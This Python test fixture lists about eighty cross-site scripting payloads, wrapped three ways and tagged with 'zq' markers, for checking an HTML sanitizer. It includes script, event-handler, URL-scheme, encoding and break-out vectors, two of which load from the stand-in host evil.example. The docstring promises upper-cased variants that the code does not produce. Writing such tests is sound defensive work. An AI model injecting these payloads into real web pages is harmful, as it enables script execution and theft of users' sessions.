"""
Cross-site scripting vectors for tests/test_xss.py: each carries a marker
(`zq` and its number) so a survivor is traced to the vector that made it.

Families: script tags, event handlers, javascript:/data:/vbscript: URLs,
SVG and MathML, style, entity and percent tricks, mutation XSS, Unicode
escapes and look-alikes, breaking out of attributes, titles, scripts,
JSON, CDATA and comments. Each template is also sent upper-cased and
behind an attribute break-out, for at least 150 vectors in all.
"""

TEMPLATES = [
    "<script>alert('{m}')</script>",
    "<script src=//evil.example/{m}.js></script>",
    "<ScRiPt>alert('{m}')</sCrIpT>",
    "<script>/*</script><script>*/alert('{m}')</script>",
    "<img src=x onerror=alert('{m}')>",
    "<img src=x onerror=\"alert('{m}')\">",
    "<img/src=x/onerror=alert('{m}')>",
    "<img src=x:alert(1) onerror=eval(src) alt={m}>",
    "<svg onload=alert('{m}')>",
    "<svg><script>alert('{m}')</script></svg>",
    "<svg><animate onbegin=alert('{m}') attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert('{m}')\"><text x=20 y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",
    "<math href=\"javascript:alert('{m}')\">x</math>",
    "<a href=\"javascript:alert('{m}')\">x</a>",
    "<a href=\"JaVaScRiPt:alert('{m}')\">x</a>",
    "<a href=\"java&#x09;script:alert('{m}')\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert('{m}')\">x</a>",
    "<a href=\" javascript:alert('{m}')\">x</a>",
    "<a href=\"vbscript:msgbox('{m}')\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{m}\">x</a>",
    "<a href=\"data:text/html,<script>alert('{m}')</script>\">x</a>",
    "<iframe src=\"javascript:alert('{m}')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('{m}')</script>\"></iframe>",
    "<object data=\"javascript:alert('{m}')\"></object>",
    "<embed src=\"javascript:alert('{m}')\">",
    "<form action=\"javascript:alert('{m}')\"><button>x</button></form>",
    "<button formaction=\"javascript:alert('{m}')\">x</button>",
    "<input autofocus onfocus=alert('{m}')>",
    "<details open ontoggle=alert('{m}')>",
    "<body onload=alert('{m}')>",
    "<video><source onerror=alert('{m}')></video>",
    "<audio src=x onerror=alert('{m}')>",
    "<marquee onstart=alert('{m}')>x</marquee>",
    "<div onmouseover=alert('{m}')>x</div>",
    "<p style=\"background:url(javascript:alert('{m}'))\">x</p>",
    "<style>@import 'javascript:alert(\"{m}\")';</style>",
    "<style>*{{background:url('//evil.example/{m}')}}</style>",
    "<link rel=stylesheet href=\"javascript:alert('{m}')\">",
    "<base href=\"javascript:alert('{m}')//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('{m}')\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('{m}')>\"></noscript>",
    "<textarea></textarea><img src=x onerror=alert('{m}')>",
    "<title></title><img src=x onerror=alert('{m}')>",
    "</title><script>alert('{m}')</script>",
    "</script><script>alert('{m}')</script>",
    "</textarea><script>alert('{m}')</script>",
    "--><script>alert('{m}')</script><!--",
    "]]><script>alert('{m}')</script><![CDATA[",
    "\"}};alert('{m}');//",
    "\"><script>alert('{m}')</script>",
    "'><img src=x onerror=alert('{m}')>",
    "\" onmouseover=\"alert('{m}')\" x=\"",
    "' onfocus='alert(\"{m}\")' autofocus='",
    "&lt;script&gt;alert('{m}')&lt;/script&gt;",
    "&#60;script&#62;alert('{m}')&#60;/script&#62;",
    "&amp;lt;img src=x onerror=alert('{m}')&amp;gt;",
    "%3Cscript%3Ealert('{m}')%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert('{m}')\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert('{m}')\\x3c/script\\x3e",
    "＜script＞alert('{m}')＜/script＞",
    "<scr\u200bipt>alert('{m}')</scr\u200bipt>",
    "<script\x0c>alert('{m}')</script>",
    "<img src=x onerror\u000b=alert('{m}')>",
    "<<script>script>alert('{m}')<</script>/script>",
    "<scr<script>ipt>alert('{m}')</script>",
    "<img src=\"x\" alt=\"``onerror=alert('{m}')\">",
    "<a href=# onclick=\"alert('{m}')\">x</a>",
    "[x](javascript:alert('{m}'))",
    "{{% debug %}}{m}",
    "{{{{ request }}}}{m}",
    "${{alert('{m}')}}",
    "<template><img src=x onerror=alert('{m}')></template>",
    "<select><option><img src=x onerror=alert('{m}')></option></select>",
    "<table><td background=\"javascript:alert('{m}')\">",
    "<isindex type=image src=1 onerror=alert('{m}')>",
    "<xss id=x tabindex=1 onfocusin=alert('{m}')></xss>",
    "<img src=\"javascript:alert('{m}')\">",
    "<image src=x onerror=alert('{m}')>",
]

WRAPPERS = [
    "{v}",
    "Banjir {v} rendam pesisir",
    "\"'>{v}",
]


def vectors():
    """Every vector, each with its own marker, in a stable order."""
    found = []
    for template in TEMPLATES:
        for wrapper in WRAPPERS:
            found.append(wrapper.format(v=template))
    return [vector.replace("{m}", f"zq{n:03d}").replace("{{", "{").replace("}}", "}") for n, vector in enumerate(found)]


def marker(n):
    return f"zq{n:03d}"
